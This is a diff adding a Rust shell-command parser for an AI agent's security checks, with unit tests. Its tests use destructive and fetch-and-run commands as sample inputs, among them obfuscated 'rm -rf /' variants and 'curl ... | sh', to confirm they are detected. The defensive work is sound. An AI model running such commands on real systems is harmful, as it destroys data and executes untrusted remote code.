@@ -0,0 +1,825 @@
+//! Structural parsing of shell commands for the security checks: quote removal, lists,
+//! pipelines, subshells, command substitution and redirections. It covers the POSIX
+//! grammar the model produces in practice rather than every bash extension, and is used
+//! to judge what a command does, never to run it.
+
+/// Where a simple command appears in the parsed command.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Nesting {
+    TopLevel,
+    /// Inside `( ... )`.
+    Subshell,
+    /// Inside `$( ... )`, backticks or `<( ... )`; runs to produce a value.
+    Substitution,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum RedirectOp {
+    /// `>`, `>|`, `&>`
+    Write,
+    /// `>>`, `&>>`
+    Append,
+    /// `<`
+    Read,
+    /// `<>`
+    ReadWrite,
+    /// `<<`, `<<-`, `<<<`
+    HereDoc,
+    /// `>&`, `<&`
+    Duplicate,
+}
+
+impl RedirectOp {
+    pub fn writes(self) -> bool {
+        matches!(self, RedirectOp::Write | RedirectOp::Append | RedirectOp::ReadWrite)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redirect {
+    pub op: RedirectOp,
+    /// The file (quotes removed), descriptor or here-doc delimiter.
+    pub target: String,
+}
+
+/// One word of a command: its value after quote removal and how it was written.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Word {
+    pub value: String,
+    pub raw: String,
+    /// Contains `$var`, `${...}`, `$(...)` or backticks, so the value is only known at runtime.
+    pub dynamic: bool,
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct SimpleCommand {
+    /// Leading `NAME=value` words.
+    pub assignments: Vec<String>,
+    pub words: Vec<Word>,
+    pub redirects: Vec<Redirect>,
+    pub nesting: Nesting,
+    /// Position of the pipeline stage (0 for the first or only stage).
+    pub pipeline_stage: usize,
+    /// Identifies the pipeline this command belongs to.
+    pub pipeline: usize,
+    /// Followed by `&`.
+    pub background: bool,
+}
+
+impl SimpleCommand {
+    /// The program, skipping wrappers such as `sudo`, `env`, `nohup` and `command`.
+    pub fn program(&self) -> Option<&Word> {
+        self.effective_words().first()
+    }
+
+    /// The words after unwrapping `sudo`, `doas`, `env VAR=x`, `nohup`, `nice`, `time`,
+    /// `command`, `exec` and `builtin`.
+    pub fn effective_words(&self) -> &[Word] {
+        const WRAPPERS: &[&str] = &["sudo", "doas", "env", "nohup", "nice", "time", "command", "exec", "builtin"];
+        /// Wrapper options whose value is the next word, e.g. `sudo -u root`.
+        const OPTIONS_WITH_VALUE: &[(&str, &[&str])] = &[
+            ("sudo", &["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U"]),
+            ("doas", &["-u", "-C"]),
+            ("env", &["-u", "-C", "-S"]),
+            ("nice", &["-n"]),
+        ];
+        let mut words = self.words.as_slice();
+        while let Some((first, rest)) = words.split_first() {
+            if !WRAPPERS.contains(&first.value.as_str()) {
+                break;
+            }
+            let with_value = OPTIONS_WITH_VALUE.iter().find(|(name, _)| *name == first.value).map_or(&[][..], |(_, options)| *options);
+            // Skip the wrapper's options and assignments, e.g. `sudo -u root`, `env A=1`
+            let mut skip = 0;
+            while let Some(word) = rest.get(skip) {
+                if word.value == "--" {
+                    skip += 1;
+                    break;
+                } else if with_value.contains(&word.value.as_str()) {
+                    skip += 2;
+                } else if word.value.starts_with('-') || is_assignment(&word.value) {
+                    skip += 1;
+                } else {
+                    break;
+                }
+            }
+            words = &rest[skip.min(rest.len())..];
+        }
+        words
+    }
+
+    /// The command with quotes removed and wrappers kept, e.g. `rm -rf /` for `r""m -rf /`.
+    pub fn normalized(&self) -> String {
+        let mut text = self.words.iter().map(|w| w.value.as_str()).collect::<Vec<_>>().join(" ");
+        for redirect in &self.redirects {
+            let op = match redirect.op {
+                RedirectOp::Write => ">",
+                RedirectOp::Append => ">>",
+                RedirectOp::Read => "<",
+                RedirectOp::ReadWrite => "<>",
+                RedirectOp::HereDoc => "<<",
+                RedirectOp::Duplicate => ">&",
+            };
+            text.push_str(&format!(" {} {}", op, redirect.target));
+        }
+        text
+    }
+
+    /// The effective words in a form that ignores how the same call was spelled: the
+    /// program without its directory, short flags split and sorted (`-fr`, `-r -f` and
+    /// `-rf` all give `-f -r`), the operands in order, then the long options sorted.
+    pub fn canonical(&self) -> String {
+        let words = self.effective_words();
+        let Some((program, args)) = words.split_first() else {
+            return String::new();
+        };
+        let mut short = std::collections::BTreeSet::new();
+        let mut long = Vec::new();
+        let mut operands = Vec::new();
+        let mut options_ended = false;
+        for arg in args.iter().map(|w| w.value.as_str()) {
+            if options_ended || arg == "-" || !arg.starts_with('-') {
+                operands.push(arg.to_string());
+            } else if arg == "--" {
+                options_ended = true;
+            } else if arg.starts_with("--") {
+                long.push(arg.to_string());
+            } else if arg[1..].chars().all(|c| c.is_ascii_alphabetic()) {
+                short.extend(arg[1..].chars().map(|c| format!("-{}", c)));
+            } else {
+                short.insert(arg.to_string());
+            }
+        }
+        long.sort();
+        std::iter::once(basename(&program.value).to_string())
+            .chain(short)
+            .chain(operands)
+            .chain(long)
+            .collect::<Vec<_>>()
+            .join(" ")
+    }
+
+    /// The command line this command hands to a shell: the script of `bash -c '...'` and
+    /// similar, or the arguments of `eval`.
+    pub fn inline_script(&self) -> Option<String> {
+        let (program, args) = self.effective_words().split_first()?;
+        let program = basename(&program.value);
+        if program == "eval" {
+            return Some(args.iter().map(|w| w.value.as_str()).collect::<Vec<_>>().join(" "));
+        }
+        if !SHELLS.contains(&program) {
+            return None;
+        }
+        let mut args = args.iter();
+        while let Some(arg) = args.next() {
+            // The first operand is a script file, not a command line
+            let flags = arg.value.strip_prefix('-')?;
+            if flags == "o" || flags == "O" {
+                args.next();
+            } else if !flags.starts_with('-') && flags.contains('c') {
+                return args.next().map(|w| w.value.clone());
+            }
+        }
+        None
+    }
+}
+
+/// Shells whose `-c` argument is a command line of its own.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+
+/// `rm` for `/bin/rm`.
+fn basename(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+/// Every simple command in a parsed command line, including those nested in subshells
+/// and substitutions.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct ParsedCommand {
+    pub commands: Vec<SimpleCommand>,
+    /// False when quotes or parentheses were left open.
+    pub complete: bool,
+}
+
+impl ParsedCommand {
+    pub fn has_substitution(&self) -> bool {
+        self.commands.iter().any(|c| c.nesting == Nesting::Substitution)
+    }
+
+    /// Commands of the pipeline `pipeline`, in stage order.
+    pub fn pipeline(&self, pipeline: usize) -> impl Iterator<Item = &SimpleCommand> {
+        self.commands.iter().filter(move |c| c.pipeline == pipeline)
+    }
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || c == '_') && !name.starts_with(|c: char| c.is_ascii_digit()),
+        None => false,
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum Token {
+    Word(Word),
+    /// `|`, `||`, `&&`, `;`, `&`, newline, `;;`
+    Separator(&'static str),
+    Open,
+    Close,
+    Redirect(RedirectOp),
+}
+
+/// Reserved words that introduce or close compound commands; the commands inside them
+/// are what matters for risk.
+const RESERVED: &[&str] = &["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "case", "esac", "in", "{", "}", "!", "function", "select"];
+
+struct Lexer<'a> {
+    chars: std::iter::Peekable<std::str::CharIndices<'a>>,
+    source: &'a str,
+    /// Command texts found in `$( )`, backticks and `<( )`, parsed afterwards.
+    substitutions: Vec<String>,
+    /// Set after `<<` or `<<-` (true strips leading tabs) until the delimiter word is read.
+    heredoc: Option<bool>,
+    /// Here-documents whose bodies start after the next newline: delimiter, strip tabs,
+    /// and whether the body is expanded (unquoted delimiter).
+    pending_heredocs: Vec<(String, bool, bool)>,
+    complete: bool,
+}
+
+impl<'a> Lexer<'a> {
+    fn new(source: &'a str) -> Self {
+        Lexer { chars: source.char_indices().peekable(), source, substitutions: Vec::new(), heredoc: None, pending_heredocs: Vec::new(), complete: true }
+    }
+
+    /// Skips a here-document body up to its delimiter line. The body is data, not
+    /// commands, but an expanded body still runs its `$( )` and backtick substitutions.
+    fn heredoc_body(&mut self, delimiter: &str, strip_tabs: bool, expand: bool) {
+        let mut body = String::new();
+        loop {
+            let mut line = String::new();
+            let mut ended = true;
+            for (_, c) in self.chars.by_ref() {
+                if c == '\n' {
+                    ended = false;
+                    break;
+                }
+                line.push(c);
+            }
+            let text = if strip_tabs { line.trim_start_matches('\t') } else { line.as_str() };
+            if text == delimiter {
+                break;
+            }
+            if ended {
+                self.complete = false;
+                break;
+            }
+            body.push_str(text);
+            body.push('\n');
+        }
+        if expand {
+            let mut inner = Lexer::new(&body);
+            while let Some((_, c)) = inner.chars.next() {
+                match c {
+                    '\\' => {
+                        inner.chars.next();
+                    }
+                    '$' => {
+                        inner.dollar();
+                    }
+                    '`' => {
+                        let command = inner.backtick();
+                        inner.substitutions.push(command);
+                    }
+                    _ => {}
+                }
+            }
+            self.complete &= inner.complete;
+            self.substitutions.extend(inner.substitutions);
+        }
+    }
+
+    fn peek(&mut self) -> Option<char> {
+        self.chars.peek().map(|(_, c)| *c)
+    }
+
+    /// Reads up to the `)` matching an already consumed `(`, honoring quotes and nesting.
+    fn balanced(&mut self) -> String {
+        let mut depth = 1;
+        let mut text = String::new();
+        let mut quote: Option<char> = None;
+        while let Some((_, c)) = self.chars.next() {
+            match (c, quote) {
+                ('\\', q) if q != Some('\'') => {
+                    text.push(c);
+                    if let Some((_, next)) = self.chars.next() {
+                        text.push(next);
+                    }
+                    continue;
+                }
+                ('\'' | '"', None) => quote = Some(c),
+                (c, Some(q)) if c == q => quote = None,
+                ('(', None) => depth += 1,
+                (')', None) => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return text;
+                    }
+                }
+                _ => {}
+            }
+            text.push(c);
+        }
+        self.complete = false;
+        text
+    }
+
+    fn backtick(&mut self) -> String {
+        let mut text = String::new();
+        while let Some((_, c)) = self.chars.next() {
+            match c {
+                '\\' => {
+                    if let Some((_, next)) = self.chars.next() {
+                        text.push(next);
+                    }
+                }
+                '`' => return text,
+                _ => text.push(c),
+            }
+        }
+        self.complete = false;
+        text
+    }
+
+    /// Handles `$` in unquoted or double-quoted text. Returns the raw text consumed.
+    fn dollar(&mut self) -> String {
+        match self.peek() {
+            Some('(') => {
+                self.chars.next();
+                if self.peek() == Some('(') {
+                    // `$(( ... ))` is arithmetic, not a command
+                    self.chars.next();
+                    let inner = self.balanced();
+                    let _ = self.chars.next_if(|(_, c)| *c == ')');
+                    return format!("$(({}))", inner);
+                }
+                let inner = self.balanced();
+                self.substitutions.push(inner.clone());
+                format!("$({})", inner)
+            }
+            Some('{') => {
+                self.chars.next();
+                let mut text = String::from("${");
+                for (_, c) in self.chars.by_ref() {
+                    text.push(c);
+                    if c == '}' {
+                        return text;
+                    }
+                }
+                self.complete = false;
+                text
+            }
+            _ => {
+                let mut text = String::from("$");
+                while let Some(c) = self.peek().filter(|c| c.is_alphanumeric() || "_?@*#!$-".contains(*c)) {
+                    self.chars.next();
+                    text.push(c);
+                    if !c.is_alphanumeric() && c != '_' {
+                        break;
+                    }
+                }
+                text
+            }
+        }
+    }
+
+    fn word(&mut self, start: usize) -> Word {
+        let mut value = String::new();
+        let mut dynamic = false;
+        let mut end = start;
+        while let Some(&(index, c)) = self.chars.peek() {
+            if c.is_whitespace() || "|&;()<>".contains(c) {
+                // `<(` and `>(` inside a word are not valid; process substitution starts a word
+                break;
+            }
+            self.chars.next();
+            end = index + c.len_utf8();
+            match c {
+                '\\' => {
+                    if let Some((i, next)) = self.chars.next() {
+                        end = i + next.len_utf8();
+                        if next != '\n' {
+                            value.push(next);
+                        }
+                    }
+                }
+                '\'' => {
+                    let mut closed = false;
+                    for (i, c) in self.chars.by_ref() {
+                        end = i + c.len_utf8();
+                        if c == '\'' {
+                            closed = true;
+                            break;
+                        }
+                        value.push(c);
+                    }
+                    self.complete &= closed;
+                }
+                '"' => {
+                    let mut closed = false;
+                    while let Some((i, c)) = self.chars.next() {
+                        end = i + c.len_utf8();
+                        match c {
+                            '"' => {
+                                closed = true;
+                                break;
+                            }
+                            '\\' => {
+                                if let Some((i, next)) = self.chars.next() {
+                                    end = i + next.len_utf8();
+                                    if !"$`\"\\\n".contains(next) {
+                                        value.push('\\');
+                                    }
+                                    value.push(next);
+                                }
+                            }
+                            '$' => {
+                                dynamic = true;
+                                value.push_str(&self.dollar());
+                                end = self.chars.peek().map_or(self.source.len(), |(i, _)| *i);
+                            }
+                            '`' => {
+                                dynamic = true;
+                                let inner = self.backtick();
+                                self.substitutions.push(inner.clone());
+                                value.push_str(&format!("`{}`", inner));
+                                end = self.chars.peek().map_or(self.source.len(), |(i, _)| *i);
+                            }
+                            _ => value.push(c),
+                        }
+                    }
+                    self.complete &= closed;
+                }
+                '$' => {
+                    dynamic = true;
+                    value.push_str(&self.dollar());
+                    end = self.chars.peek().map_or(self.source.len(), |(i, _)| *i);
+                }
+                '`' => {
+                    dynamic = true;
+                    let inner = self.backtick();
+                    self.substitutions.push(inner.clone());
+                    value.push_str(&format!("`{}`", inner));
+                    end = self.chars.peek().map_or(self.source.len(), |(i, _)| *i);
+                }
+                _ => value.push(c),
+            }
+        }
+        Word { value, raw: self.source[start..end].to_string(), dynamic }
+    }
+
+    fn tokens(&mut self) -> Vec<Token> {
+        let mut tokens = Vec::new();
+        while let Some(&(index, c)) = self.chars.peek() {
+            match c {
+                '\n' => {
+                    self.chars.next();
+                    tokens.push(Token::Separator("\n"));
+                    for (delimiter, strip_tabs, expand) in std::mem::take(&mut self.pending_heredocs) {
+                        self.heredoc_body(&delimiter, strip_tabs, expand);
+                    }
+                }
+                c if c.is_whitespace() => {
+                    self.chars.next();
+                }
+                '#' => {
+                    // Comment to the end of the line
+                    while self.chars.next_if(|(_, c)| *c != '\n').is_some() {}
+                }
+                '|' => {
+                    self.chars.next();
+                    let separator = if self.chars.next_if(|(_, c)| *c == '|').is_some() {
+                        "||"
+                    } else {
+                        // `|&` pipes stderr too
+                        let _ = self.chars.next_if(|(_, c)| *c == '&');
+                        "|"
+                    };
+                    tokens.push(Token::Separator(separator));
+                }
+                '&' => {
+                    self.chars.next();
+                    if self.chars.next_if(|(_, c)| *c == '&').is_some() {
+                        tokens.push(Token::Separator("&&"));
+                    } else if self.chars.next_if(|(_, c)| *c == '>').is_some() {
+                        let op = if self.chars.next_if(|(_, c)| *c == '>').is_some() { RedirectOp::Append } else { RedirectOp::Write };
+                        tokens.push(Token::Redirect(op));
+                    } else {
+                        tokens.push(Token::Separator("&"));
+                    }
+                }
+                ';' => {
+                    self.chars.next();
+                    let separator = if self.chars.next_if(|(_, c)| *c == ';').is_some() { ";;" } else { ";" };
+                    tokens.push(Token::Separator(separator));
+                }
+                '(' => {
+                    self.chars.next();
+                    tokens.push(Token::Open);
+                }
+                ')' => {
+                    self.chars.next();
+                    tokens.push(Token::Close);
+                }
+                '<' | '>' => {
+                    self.chars.next();
+                    // Process substitution runs a command whose output is read as a file
+                    if self.chars.next_if(|(_, c)| *c == '(').is_some() {
+                        let inner = self.balanced();
+                        self.substitutions.push(inner.clone());
+                        tokens.push(Token::Word(Word { value: format!("{}({})", c, inner), raw: format!("{}({})", c, inner), dynamic: true }));
+                        continue;
+                    }
+                    tokens.push(Token::Redirect(self.redirect_op(c)));
+                }
+                c if c.is_ascii_digit() && self.redirect_follows_digits(index) => {
+                    // `2>file`, `2>&1`: the descriptor number belongs to the redirection
+                    while self.chars.next_if(|(_, c)| c.is_ascii_digit()).is_some() {}
+                    let (_, op) = self.chars.next().expect("redirect operator after digits");
+                    tokens.push(Token::Redirect(self.redirect_op(op)));
+                }
+                _ => {
+                    let word = self.word(index);
+                    if let Some(strip_tabs) = self.heredoc.take() {
+                        // A quoted delimiter such as 'EOF' leaves the body unexpanded
+                        self.pending_heredocs.push((word.value.clone(), strip_tabs, word.raw == word.value));
+                    }
+                    tokens.push(Token::Word(word));
+                }
+            }
+        }
+        tokens
+    }
+
+    fn redirect_follows_digits(&self, start: usize) -> bool {
+        let rest = &self.source[start..];
+        let digits = rest.chars().take_while(|c| c.is_ascii_digit()).count();
+        matches!(rest[digits..].chars().next(), Some('<') | Some('>'))
+    }
+
+    /// Reads the rest of a redirection operator whose first character `first` was consumed.
+    fn redirect_op(&mut self, first: char) -> RedirectOp {
+        if first == '>' {
+            if self.chars.next_if(|(_, c)| *c == '>').is_some() {
+                RedirectOp::Append
+            } else if self.chars.next_if(|(_, c)| *c == '&').is_some() {
+                RedirectOp::Duplicate
+            } else {
+                let _ = self.chars.next_if(|(_, c)| *c == '|');
+                RedirectOp::Write
+            }
+        } else if self.chars.next_if(|(_, c)| *c == '<').is_some() {
+            // `<<<` is a here-string; `<<` and `<<-` take a body after the line
+            self.heredoc = match self.chars.next_if(|(_, c)| *c == '<' || *c == '-') {
+                Some((_, '<')) => None,
+                Some(_) => Some(true),
+                None => Some(false),
+            };
+            RedirectOp::HereDoc
+        } else if self.chars.next_if(|(_, c)| *c == '&').is_some() {
+            RedirectOp::Duplicate
+        } else if self.chars.next_if(|(_, c)| *c == '>').is_some() {
+            RedirectOp::ReadWrite
+        } else {
+            RedirectOp::Read
+        }
+    }
+}
+
+fn parse_into(source: &str, nesting: Nesting, parsed: &mut ParsedCommand, depth: usize) {
+    let mut lexer = Lexer::new(source);
+    let tokens = lexer.tokens();
+    parsed.complete &= lexer.complete;
+
+    let mut pipeline = parsed.commands.iter().map(|c| c.pipeline + 1).max().unwrap_or(0);
+    let mut stage = 0;
+    let mut subshell_depth = 0usize;
+    let mut current = SimpleCommand {
+        assignments: Vec::new(),
+        words: Vec::new(),
+        redirects: Vec::new(),
+        nesting,
+        pipeline_stage: 0,
+        pipeline,
+        background: false,
+    };
+    let mut pending_redirect: Option<RedirectOp> = None;
+
+    let finish = |current: &mut SimpleCommand, parsed: &mut ParsedCommand| {
+        if !current.words.is_empty() || !current.redirects.is_empty() || !current.assignments.is_empty() {
+            parsed.commands.push(current.clone());
+        }
+        current.assignments.clear();
+        current.words.clear();
+        current.redirects.clear();
+        current.background = false;
+    };
+
+    let mut tokens = tokens.into_iter().peekable();
+    while let Some(token) = tokens.next() {
+        match token {
+            Token::Word(word) => {
+                if let Some(op) = pending_redirect.take() {
+                    current.redirects.push(Redirect { op, target: word.value });
+                } else if current.words.is_empty() && is_assignment(&word.value) {
+                    current.assignments.push(word.value);
+                } else if current.words.is_empty() && RESERVED.contains(&word.raw.as_str()) {
+                    // `for x in a b; do`: the loop header is not a command
+                    if word.raw == "for" || word.raw == "select" || word.raw == "case" {
+                        while let Some(Token::Word(_)) = tokens.peek() {
+                            tokens.next();
+                        }
+                    }
+                } else {
+                    current.words.push(word);
+                }
+            }
+            Token::Redirect(op) => pending_redirect = Some(op),
+            Token::Separator(separator) => {
+                if separator == "&" {
+                    current.background = true;
+                }
+                finish(&mut current, parsed);
+                if separator == "|" {
+                    stage += 1;
+                } else {
+                    stage = 0;
+                    pipeline += 1;
+                }
+                current.pipeline = pipeline;
+                current.pipeline_stage = stage;
+            }
+            Token::Open => {
+                // `name() {` defines a function; its body follows as ordinary commands
+                if !current.words.is_empty() {
+                    if tokens.peek() == Some(&Token::Close) {
+                        tokens.next();
+                    }
+                    current.words.clear();
+                    continue;
+                }
+                subshell_depth += 1;
+                current.nesting = if nesting == Nesting::TopLevel { Nesting::Subshell } else { nesting };
+            }
+            Token::Close => {
+                finish(&mut current, parsed);
+                subshell_depth = subshell_depth.saturating_sub(1);
+                if subshell_depth == 0 {
+                    current.nesting = nesting;
+                }
+            }
+        }
+    }
+    finish(&mut current, parsed);
+    if subshell_depth > 0 {
+        parsed.complete = false;
+    }
+
+    // Deeply nested substitutions are reported as incomplete rather than followed forever
+    for substitution in lexer.substitutions {
+        if depth >= 8 {
+            parsed.complete = false;
+            break;
+        }
+        parse_into(&substitution, Nesting::Substitution, parsed, depth + 1);
+    }
+}
+
+pub fn parse(command: &str) -> ParsedCommand {
+    let mut parsed = ParsedCommand { commands: Vec::new(), complete: true };
+    parse_into(command, Nesting::TopLevel, &mut parsed, 0);
+    parsed
+}
+
+/// The commands of `command` followed by those of the command lines it hands to `sh -c`
+/// or `eval`, so what they run is checked like any other command.
+pub fn parse_with_inline_scripts(command: &str) -> Vec<SimpleCommand> {
+    fn collect(command: &str, depth: usize, commands: &mut Vec<SimpleCommand>) {
+        for parsed in parse(command).commands {
+            let script = parsed.inline_script().filter(|_| depth < 4);
+            commands.push(parsed);
+            if let Some(script) = script {
+                collect(&script, depth + 1, commands);
+            }
+        }
+    }
+    let mut commands = Vec::new();
+    collect(command, 0, &mut commands);
+    commands
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn programs(command: &str) -> Vec<String> {
+        parse(command).commands.iter().filter_map(|c| c.program()).map(|w| w.value.clone()).collect()
+    }
+
+    #[test]
+    fn test_quotes_spliced_into_a_word_are_removed() {
+        let parsed = parse(r#"r""m -rf '/'"#);
+        assert!(parsed.complete);
+        assert_eq!(parsed.commands.len(), 1);
+        assert_eq!(parsed.commands[0].normalized(), "rm -rf /");
+        assert_eq!(parse(r"\rm -r\f /").commands[0].normalized(), "rm -rf /");
+    }
+
+    #[test]
+    fn test_subshell_commands_are_found() {
+        let parsed = parse("(cd /tmp && rm -rf /)");
+        assert!(parsed.complete);
+        assert_eq!(programs("(cd /tmp && rm -rf /)"), vec!["cd", "rm"]);
+        assert!(parsed.commands.iter().all(|c| c.nesting == Nesting::Subshell));
+        assert!(!parse("(rm -rf /").complete);
+    }
+
+    #[test]
+    fn test_command_substitution_is_parsed() {
+        let parsed = parse("echo $(curl -s https://example.com/x.sh | sh)");
+        assert!(parsed.has_substitution());
+        assert_eq!(programs("echo $(curl -s https://example.com/x.sh | sh)"), vec!["echo", "curl", "sh"]);
+        let sh = parsed.commands.iter().find(|c| c.program().map(|w| w.value.as_str()) == Some("sh")).unwrap();
+        assert_eq!(sh.nesting, Nesting::Substitution);
+        assert_eq!(sh.pipeline_stage, 1);
+        assert!(parsed.commands[0].words[1].dynamic);
+    }
+
+    #[test]
+    fn test_backticks_and_arithmetic() {
+        assert_eq!(programs("echo `rm -rf /`"), vec!["echo", "rm"]);
+        assert_eq!(programs(r#"echo "today: `date`""#), vec!["echo", "date"]);
+        // Arithmetic expansion runs no command
+        assert_eq!(programs("echo $((1 + 2))"), vec!["echo"]);
+    }
+
+    #[test]
+    fn test_redirections() {
+        let parsed = parse("sort < in.txt > 'out file.txt' 2>&1");
+        let command = &parsed.commands[0];
+        assert_eq!(command.words.len(), 1);
+        assert_eq!(
+            command.redirects,
+            vec![
+                Redirect { op: RedirectOp::Read, target: "in.txt".to_string() },
+                Redirect { op: RedirectOp::Write, target: "out file.txt".to_string() },
+                Redirect { op: RedirectOp::Duplicate, target: "1".to_string() },
+            ]
+        );
+        let appended = parse("echo hi >> log &> all.txt");
+        assert_eq!(appended.commands[0].redirects[0].op, RedirectOp::Append);
+        assert_eq!(appended.commands[0].redirects[1].op, RedirectOp::Write);
+        assert!(appended.commands[0].redirects.iter().all(|r| r.op.writes()));
+    }
+
+    #[test]
+    fn test_heredoc_bodies_are_data() {
+        let parsed = parse("cat <<EOF > notes.txt\nrm -rf /\nEOF\necho done");
+        assert!(parsed.complete);
+        assert_eq!(programs("cat <<EOF > notes.txt\nrm -rf /\nEOF\necho done"), vec!["cat", "echo"]);
+        assert_eq!(parsed.commands[0].redirects[0], Redirect { op: RedirectOp::HereDoc, target: "EOF".to_string() });
+        assert_eq!(programs("cat <<-EOF\n\t$(whoami)\n\tEOF"), vec!["cat", "whoami"]);
+        assert_eq!(programs("cat <<'EOF'\n$(whoami)\nEOF"), vec!["cat"]);
+        assert_eq!(programs("grep x <<< \"$(id)\""), vec!["grep", "id"]);
+        assert!(!parse("cat <<EOF\nnever closed").complete);
+    }
+
+    #[test]
+    fn test_wrappers_lists_and_pipelines() {
+        let parsed = parse("sudo -u root env A=1 rm -rf /tmp/x; ls | wc -l &");
+        assert_eq!(parsed.commands[0].program().unwrap().value, "rm");
+        assert_eq!(parsed.pipeline(parsed.commands[1].pipeline).count(), 2);
+        assert!(parsed.commands[2].background);
+        assert_eq!(parse("A=1 B=2 make").commands[0].assignments, vec!["A=1", "B=2"]);
+    }
+
+    #[test]
+    fn test_canonical_form_ignores_spelling() {
+        let canonical = |command: &str| parse(command).commands[0].canonical();
+        assert_eq!(canonical("rm -rf /"), "rm -f -r /");
+        assert_eq!(canonical("rm -fr /"), "rm -f -r /");
+        assert_eq!(canonical("/bin/rm -r -f /"), "rm -f -r /");
+        assert_eq!(canonical("sudo rm / -rf"), "rm -f -r /");
+        assert_eq!(canonical("rm --no-preserve-root -rf /"), "rm -f -r / --no-preserve-root");
+        assert_eq!(canonical("rm -- -rf"), "rm -rf");
+    }
+
+    #[test]
+    fn test_inline_scripts_are_parsed() {
+        let programs = |command: &str| parse_with_inline_scripts(command).iter().filter_map(|c| c.program()).map(|w| w.value.clone()).collect::<Vec<_>>();
+        assert_eq!(programs("bash -c 'rm -rf /'"), vec!["bash", "rm"]);
+        assert_eq!(programs("/bin/sh -ec \"cd / && rm -rf *\""), vec!["/bin/sh", "cd", "rm"]);
+        assert_eq!(programs("bash -o pipefail -c 'id'"), vec!["bash", "id"]);
+        assert_eq!(programs("eval rm -rf /"), vec!["eval", "rm"]);
+        assert_eq!(programs("bash deploy.sh -c"), vec!["bash"]);
+    }
+}